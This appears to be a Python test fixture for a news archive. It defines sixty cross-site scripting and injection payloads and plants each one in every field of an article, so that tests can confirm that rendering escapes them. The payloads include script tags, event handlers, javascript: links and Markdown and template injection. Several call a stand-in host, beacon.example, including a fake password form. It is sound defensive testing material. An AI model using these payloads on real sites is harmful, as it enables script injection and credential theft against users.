r"""Sixty texts that try to run a script, fetch something, or pass for something else; all of our own making.

In each the number 9999 stands for a marker, another one in each field of an article, so that what runs
(``owned(1234)``) or is fetched (``http://beacon.example/1234.png``) says where it came from.  ``fires`` says what sets
an attack off where nothing guards against it; a test sees each of those go off, so that they are known to be live:

- ``html``: being put into a page (and pointed at, focused and pressed);
- ``attribute``: being put between the quotation marks of an attribute, ``address``: being the address of a link;
- ``decoded``: having its entities decoded and then being put into a page;
- ``markdown``: being rendered as Markdown;
- ``template``: being compiled as a JavaScript template, ``string``: as a JavaScript string;
- ``""``: nothing that a bare page has (formulas, diagrams, other people's templates, terminals, eyes).
"""

from dataclasses import dataclass

from qa.records import Article
from tests.support.plain import article, story

MARKER = "9999"
# The fields of an article, and what else a stranger words; the place in the list is a marker's last digit.
FIELDS = ("id", "title", "text", "dek", "source", "authors", "url", "file", "question", "note")
_LONG_FIELDS = ("title", "dek", "authors", "url")


@dataclass(frozen=True, slots=True)
class Attack:
    """An attack; ``hidden`` are its characters that are never shown, ``long`` how much longer it gets where it may."""

    number: int
    payload: str
    fires: str
    hidden: str = ""
    long: int = 0

    def marker(self, field: str) -> int:
        return 1000 + 10 * self.number + FIELDS.index(field)

    def text(self, field: str) -> str:
        more = "x" * self.long if field in _LONG_FIELDS else ""
        return self.payload.replace(MARKER, str(self.marker(field))) + more

    def shown(self, field: str, most: int = 300) -> str:
        """The text as it is shown on one line, of ``most`` characters."""
        text = self.text(field)
        text = text if len(text) <= most else text[:most] + " …"
        return " ".join(text.translate(dict.fromkeys(map(ord, self.hidden))).split())

    def article(self) -> Article:
        """An article with the attack in every field; a stray sentence of its own, so that none copies another."""
        number = self.number
        fields = {name: self.text(name) for name in ("id", "title", "dek", "source", "authors", "url")}
        text = f"{self.text('text')}\n\nSo it was told in Ostra. {' '.join(story(number, 2))}"
        day = f"{2014 + number % 3}-{number % 12 + 1:02d}-{number % 28 + 1:02d}"
        # No file can bring a NUL in, and the archive refuses one; here it comes as far as it would without.
        return article(text.replace("\0", ""), published=day, **{k: v.replace("\0", "") for k, v in fields.items()})


_LIVE = [
    # Scripts
    ("html", "<script>owned(9999)</script>"),
    ("html", "<ScRiPt >owned(9999)</sCrIpT >"),
    ("html", '"><script>owned(9999)</script>'),
    ("html", "</title></style></textarea></script><script>owned(9999)</script>"),
    ("html", '<script src="http://beacon.example/9999.js"></script>'),
    ("html", "--><script>owned(9999)</script><!--"),
    ("html", "]]><script>owned(9999)</script><![CDATA["),
    ("string", "';owned(9999)//"),
    # Event handlers
    ("html", "<img src=x onerror=owned(9999)>"),
    ("html", '<img/src="x"/OnErRoR="owned(9999)">'),
    ("html", "<body onload=owned(9999)>"),
    ("html", "<details open ontoggle=owned(9999)>opened</details>"),
    ("html", "<video><source onerror=owned(9999) src=x></video>"),
    ("html", "<div style='animation:x 1ms' onanimationstart=owned(9999)></div><style>@keyframes x{}</style>"),
    ("html", "<b onmouseover=owned(9999)>point here</b>"),
    ("html", "<select autofocus onfocus=owned(9999)></select>"),
    ("attribute", '" autofocus onfocus="owned(9999)'),
    ("attribute", '"><input autofocus onfocus=owned(9999)>'),
    # SVG
    ("html", "<svg onload=owned(9999)>"),
    ("html", "<svg><script>owned(9999)</script></svg>"),
    ("html", "<svg><image href=x onerror=owned(9999)></image></svg>"),
    ("html", "<svg><animate onbegin=owned(9999) attributeName=x dur=1s></svg>"),
    ("html", '<svg><a xlink:href="javascript:owned(9999)"><text y="20">press</text></a></svg>'),
    # Links
    ("html", '<a href="javascript:owned(9999)">press</a>'),
    ("html", '<a href="java&#10;script:owned(9999)">press</a>'),
    ("address", "javascript:owned(9999)"),
    ("address", "JaVaScRiPt&Tab;:owned(9999)//https://news.example/"),
    ("address", "javascript://news.example/%0Aowned(9999)"),
    ("attribute", 'https://news.example/" onmouseover="owned(9999)'),
    # Frames and what else is fetched
    ("html", '<iframe src="javascript:parent.owned(9999)"></iframe>'),
    ("html", '<iframe srcdoc="<script>parent.owned(9999)</script>"></iframe>'),
    ("html", '<object data="http://beacon.example/9999.html"></object>'),
    ("html", '<embed src="http://beacon.example/9999.pdf">'),
    ("html", '<link rel=stylesheet href="http://beacon.example/9999.css">'),
    ("html", '<video poster="http://beacon.example/9999.png"></video>'),
    ("html", '<img srcset="http://beacon.example/9999.png 1x">'),
    ("html", '<meta http-equiv=refresh content="0;url=http://beacon.example/9999">'),
    ("html", '<base href="http://beacon.example/9999/"><img src=x>'),
    ("html", '<form action="http://beacon.example/9999"><input name=password><button>Log in</button></form>'),
    # CSS
    ("html", "<style>*{background:url(http://beacon.example/9999.png)}</style>"),
    ("html", '<p style="background:url(http://beacon.example/9999.png);position:fixed;inset:0">over all</p>'),
    ("html", "<style>@import url(http://beacon.example/9999.css);</style>"),
    # Markdown
    ("markdown", "![beacon](http://beacon.example/9999.png)"),
    ("markdown", "[press](javascript:owned(9999))"),
    ("markdown", "<javascript:owned(9999)>"),
    ("markdown", "[![x](http://beacon.example/9999.png)](javascript:owned(9999))"),
    # Templates
    ("template", "${owned(9999)}"),
    ("template", "`+owned(9999)+`"),
    # Entities
    ("decoded", "&lt;img src=x onerror=owned(9999)&gt;"),
    ("decoded", "&#60;svg onload=owned(9999)&#x3e;"),
]
_OTHER = [
    ("{{constructor.constructor('owned(9999)')()}} {%raw%} <%= owned(9999) %>", ""),
    ("\\u{zzz} \\x ${ 9999", ""),
    ("$$\\href{javascript:owned(9999)}{x}\\htmlData{onclick=owned(9999)}{y}$$ \\(\\unicode{x}\\)", ""),
    ('```mermaid graph TD; a["<img src=x onerror=owned(9999)>"] ```', ""),
    ("<form id=document><input name=getElementById><img name=dateline id=history> 9999", ""),
    ('<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=owned(9999)&gt;">', ""),
    ("\x1b[31mred\x1b[0m \x1b]8;;http://beacon.example/9999\x07press\x1b]8;;\x07 \x9b2J", "\x1b\x07\x9b"),
    ("\u202egnp.9999\u202c \u2066a\u2069 z\u200be\u200fr\ufeffo", "\u202e\u202c\u2066\u2069\u200b\u200f\ufeff"),
    ("<scr\0ipt>owned(9999)</scr\0ipt>", "\0"),
]  # fmt: skip
ATTACKS = [
    *(Attack(number, payload, fires) for number, (fires, payload) in enumerate(_LIVE, 1)),
    *(Attack(number, payload, "", hidden) for number, (payload, hidden) in enumerate(_OTHER, len(_LIVE) + 1)),
    Attack(60, "<img src=x onerror=owned(9999)>", "html", long=1_000_000),
]
assert len(ATTACKS) == 60
